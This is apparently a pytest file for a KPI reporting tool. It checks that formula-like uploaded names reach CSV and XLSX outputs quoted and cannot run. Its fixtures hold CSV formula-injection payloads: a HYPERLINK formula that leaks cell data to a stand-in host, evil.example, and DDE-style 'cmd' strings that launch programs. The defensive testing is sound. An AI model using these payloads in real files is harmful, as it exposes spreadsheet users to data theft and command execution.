"""Every file the product writes goes through kpi_engine.output.safe_output: uploaded text never runs as a formula.

Uploaded names that a spreadsheet would run (``=HYPERLINK(...)``, ``@SUM(...)``, ``+cmd``)
travel through the CLI's CSV output, the board report and the dashboard's XLSX export,
and arrive quoted; and no module writes CSV or XLSX any other way.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import date
from pathlib import Path

import openpyxl
import pytest
from builders import FLEET_DIR

from kpi_engine import cli
from kpi_engine.analysis import analyse
from kpi_engine.ingest import SourceFile, read_upload
from kpi_engine.output import safe_output
from kpi_engine.store import Store

REPO = Path(__file__).resolve().parents[2]
LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Open plan")'
HOSTILE = {
    "milestone_name": LINK,
    "owner": "@SUM(1+1)*cmd|' /C calc'!A0",
    "project_name": "+1+cmd|' /C notepad'!A0",
    "kpi_name": "-2+3+cmd|' /C calc'!A0",
}


@pytest.fixture(scope="module")
def db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The worked example with formula-like names on its slipping milestone, project and KPI."""
    texts = {p.name: p.read_text() for p in sorted(FLEET_DIR.glob("*.csv"))}
    texts["milestones.csv"] = texts["milestones.csv"].replace(
        "Routing software go-live,Priya Raman", f'"{LINK.replace(chr(34), chr(34) * 2)}","{HOSTILE["owner"]}"'
    )
    texts["projects.csv"] = texts["projects.csv"].replace("Fleet routing optimization", HOSTILE["project_name"])
    texts["kpis.csv"] = texts["kpis.csv"].replace("Cost per mile", HOSTILE["kpi_name"])
    files = [SourceFile(name, text.encode()) for name, text in texts.items()]
    path = tmp_path_factory.mktemp("safe") / "kpi.duckdb"
    with Store.open(path) as store:
        store.ingest(read_upload(files), date(2026, 6, 15), sources=files)
        result = analyse(store)
    assert LINK in result.exceptions["milestone_name"].to_list()  # the hostile text reaches the outputs
    return path


def _assert_quoted(cells: list[str]) -> None:
    """Every hostile value appears, and only behind a leading quote."""
    for value in HOSTILE.values():
        assert value not in cells
    assert "'" + LINK in cells
    triggers = tuple(safe_output.FORMULA_TRIGGERS)
    for cell in cells:
        if cell.startswith(triggers):
            assert re.fullmatch(r"-?\d+(\.\d+)?(e[+-]?\d+)?", cell), f"a text cell that would run: {cell!r}"


@pytest.mark.parametrize("command", ["exceptions", "kpis"])
def test_cli_csv_output_quotes_formula_text(db: Path, command: str, capsys: pytest.CaptureFixture[str]) -> None:
    assert cli.main([command, "--db", str(db), "--format", "csv"]) == 0
    cells = [cell for row in csv.reader(io.StringIO(capsys.readouterr().out.lstrip("\ufeff"))) for cell in row]

    if command == "kpis":
        assert "'" + HOSTILE["kpi_name"] in cells and HOSTILE["kpi_name"] not in cells
    else:
        _assert_quoted(cells)


def _workbook_cells(data: bytes) -> tuple[list[str], list[str]]:
    """(text cells, formulas) of every sheet."""
    book = openpyxl.load_workbook(io.BytesIO(data))
    texts, formulas = [], []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    formulas.append(str(cell.value))
                elif isinstance(cell.value, str):
                    texts.append(cell.value)
    return texts, formulas


def test_board_report_quotes_formula_text(
    db: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    from kpi_engine.output import report

    monkeypatch.setattr(report, "render_charts", lambda result, scale=2.0: ({}, None))  # pictures are not text
    out = tmp_path / "board.xlsx"
    assert cli.main(["report", "--db", str(db), "--out", str(out)]) == 0

    texts, formulas = _workbook_cells(out.read_bytes())
    _assert_quoted(texts)
    assert not any("HYPERLINK" in f or "cmd" in f for f in formulas)


def test_dashboard_xlsx_and_csv_exports_quote_formula_text(db: Path) -> None:
    """ui/export.py offers every table through safe_output.csv_bytes and xlsx_bytes."""
    with Store.open(db) as store:
        exceptions = analyse(store).exceptions

    texts, formulas = _workbook_cells(safe_output.xlsx_bytes({"Exceptions": exceptions}))
    _assert_quoted(texts)
    assert formulas == []
    cells = [c for row in csv.reader(io.StringIO(safe_output.csv_bytes(exceptions).decode("utf-8-sig"))) for c in row]
    _assert_quoted(cells)
    export = (REPO / "ui" / "export.py").read_text()
    assert "safe_output.csv_bytes" in export and "safe_output.xlsx_bytes" in export


#: Ways of writing CSV or XLSX that bypass safe_output.
DIRECT_WRITERS = re.compile(
    r"\.write_csv\(|\.to_csv\(|csv\.writer\(|csv\.DictWriter\(|\.write_excel\(|\.to_excel\(|"
    r"xlsxwriter\.Workbook\(|openpyxl\.Workbook\(|Workbook\(\)|\.write_ndjson\("
)


def test_no_module_writes_csv_or_xlsx_except_through_safe_output() -> None:
    sources = [
        *(REPO / "kpi_engine").rglob("*.py"),
        *(REPO / "ui").rglob("*.py"),
        *(REPO / "pages").rglob("*.py"),
        REPO / "app.py",
    ]
    offenders = [
        f"{path.relative_to(REPO)}:{number}: {line.strip()}"
        for path in sources
        if path.exists() and path.name != "safe_output.py"
        for number, line in enumerate(path.read_text().splitlines(), start=1)
        if DIRECT_WRITERS.search(line) and not line.lstrip().startswith("#")
    ]
    assert offenders == []


def test_the_blank_template_is_written_with_the_safe_options() -> None:
    from kpi_engine.ingest import template_workbook

    texts, formulas = _workbook_cells(template_workbook())
    assert "milestone_id" in texts and formulas == []
